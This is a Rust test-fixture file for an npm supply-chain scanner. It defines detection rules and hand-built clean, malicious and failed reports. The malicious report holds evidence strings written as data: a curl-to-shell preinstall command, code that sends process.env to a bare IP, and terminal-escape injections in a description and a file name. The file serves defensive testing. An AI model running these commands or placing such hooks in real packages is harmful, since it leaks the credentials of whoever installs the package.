//! Representative reports, built by hand so the tests do not depend on the rules crate.

use dsca_model::{
    Behaviour, Category, Evidence, Finding, Location, PackageInfo, Report, ReportError, Rule,
    Severity, Source, npm_purl,
};

pub const INSTALL_SCRIPT: Rule = Rule {
    id: "DSCA101",
    name: "install-script",
    category: Category::InstallScripts,
    severity: Severity::Medium,
    title: "Runs code on install",
    problem: "npm runs preinstall, install and postinstall scripts with the installing user's \
              rights as soon as the package is installed, before any of its code is imported. \
              Most malicious npm packages act from such a script.",
    next_steps: "Read the script and every file it runs. Install with --ignore-scripts when the \
                 package does not need them.",
};

pub const RISKY_INSTALL_COMMAND: Rule = Rule {
    id: "DSCA102",
    name: "risky-install-command",
    category: Category::InstallScripts,
    severity: Severity::High,
    title: "Install script downloads or runs a shell",
    problem: "An install script that fetches code, decodes a payload or opens a shell runs \
              something that was not in the reviewed tarball.",
    next_steps: "Do not install this version. Compare it with the previous release and report \
                 it to the registry if the change is not explained.",
};

pub const ENV_EXFILTRATION: Rule = Rule {
    id: "DSCA301",
    name: "env-exfiltration",
    category: Category::Network,
    severity: Severity::Critical,
    title: "Sends environment variables over the network",
    problem: "Code reads the process environment, where CI tokens and cloud credentials live, \
              and sends it to a remote host.",
    next_steps: "Treat every secret on machines that installed this version as leaked: rotate \
                 them, and remove the package.",
};

/// A rule that ran but did not fire on any fixture: SARIF must still list it.
pub const TYPOSQUAT: Rule = Rule {
    id: "DSCA201",
    name: "typosquat",
    category: Category::Naming,
    severity: Severity::Medium,
    title: "Name imitates a popular package",
    problem: "The name is one small edit away from a popular package.",
    next_steps: "Check that this is the package you meant.",
};

pub fn rules() -> Vec<&'static Rule> {
    vec![
        &INSTALL_SCRIPT,
        &RISKY_INSTALL_COMMAND,
        &ENV_EXFILTRATION,
        &TYPOSQUAT,
    ]
}

fn package(name: &str, version: &str, description: &str) -> PackageInfo {
    PackageInfo {
        name: name.to_string(),
        version: Some(version.to_string()),
        purl: Some(npm_purl(name, version)),
        integrity: Some(format!("sha512-{}==", "A".repeat(86))),
        published: Some("2024-03-01T09:30:00.000Z".to_string()),
        description: Some(description.to_string()),
    }
}

fn registry(name: &str, version: &str) -> Source {
    let base = name.rsplit('/').next().unwrap_or(name);
    Source::Registry {
        registry: "https://registry.npmjs.org/".to_string(),
        tarball: format!("https://registry.npmjs.org/{name}/-/{base}-{version}.tgz"),
    }
}

pub fn clean() -> Report {
    let mut report = Report::new(
        "left-pad@^1",
        package("left-pad", "1.3.0", "String left pad"),
        registry("left-pad", "1.3.0"),
    );
    report.finalize();
    report
}

pub fn malicious() -> Report {
    let mut report = Report::new(
        "./evil-utils-2.0.1.tgz",
        package(
            "@evil/utils",
            "2.0.1",
            // Hostile packages put terminal escapes where a report will print them.
            "Handy utils\u{1b}]0;pwned\u{7}\u{1b}[2J\u{202e}",
        ),
        Source::Tarball {
            path: "./evil-utils-2.0.1.tgz".to_string(),
        },
    );
    report.findings = vec![
        Finding::new(&INSTALL_SCRIPT, "`postinstall` runs `node setup.js`").with_evidence(
            Evidence::new("postinstall script")
                .at(Location::file("package.json"))
                .with_snippet("node setup.js"),
        ),
        Finding::new(
            &RISKY_INSTALL_COMMAND,
            "`preinstall` pipes a download into a shell",
        )
        .with_evidence(
            Evidence::new("preinstall script")
                .at(Location::file("package.json"))
                .with_snippet("curl -s https://198.51.100.23/x.sh | sh"),
        ),
        Finding::new(
            &ENV_EXFILTRATION,
            "`setup.js` posts process.env to 198.51.100.23",
        )
        .with_evidence(
            Evidence::new("reads the whole environment")
                .at(Location {
                    file: "setup.js".to_string(),
                    line: Some(3),
                    column: Some(15),
                })
                .with_snippet("const data = JSON.stringify(process.env);"),
        )
        .with_evidence(
            Evidence::new("sends it with an HTTPS POST")
                .at(Location::line("lib/send me\u{1b}[8m.js", 12))
                .with_snippet("https.request({ host: '198.51.100.23', method: 'POST' })"),
        )
        .with_evidence(Evidence::new("the host is a bare IP address")),
        // A finding whose rule the caller did not list (SARIF synthesises a descriptor).
        Finding {
            rule: "DSCA999".to_string(),
            name: "unlisted".to_string(),
            category: Category::Obfuscation,
            severity: Severity::Low,
            title: "A rule not passed to the printer".to_string(),
            message: "long base64 string".to_string(),
            problem: "Encoded blobs hide what code does.".to_string(),
            next_steps: "Decode it.".to_string(),
            evidence: vec![],
        },
    ];
    let http_evidence = (1..=7)
        .map(|i| Evidence::new("https.request").at(Location::line("setup.js", 10 + i)))
        .collect();
    report.behaviours = vec![
        Behaviour {
            id: "network.https-request".to_string(),
            category: Category::Network,
            description: "Makes HTTPS requests".to_string(),
            count: 7,
            evidence: http_evidence,
        },
        Behaviour {
            id: "execution.install-script".to_string(),
            category: Category::Execution,
            description: "Runs scripts on install".to_string(),
            count: 2,
            evidence: vec![
                Evidence::new("preinstall").at(Location::file("package.json")),
                Evidence::new("postinstall").at(Location::file("package.json")),
            ],
        },
        Behaviour {
            id: "recon.env-read".to_string(),
            category: Category::Recon,
            description: "Reads environment variables".to_string(),
            count: 1,
            evidence: vec![Evidence::new("process.env").at(Location::line("setup.js", 3))],
        },
    ];
    report.finalize();
    report
}

pub fn failed() -> Report {
    Report::failed(
        "no-such-pkg@latest",
        "no-such-pkg",
        ReportError::new("not-found", "the registry has no package named no-such-pkg"),
    )
}

pub fn all() -> Vec<Report> {
    vec![clean(), malicious(), failed()]
}

/// A named way to break a valid document, for the schema-rejection tests.
pub type Mutation = (&'static str, fn(&mut serde_json::Value));
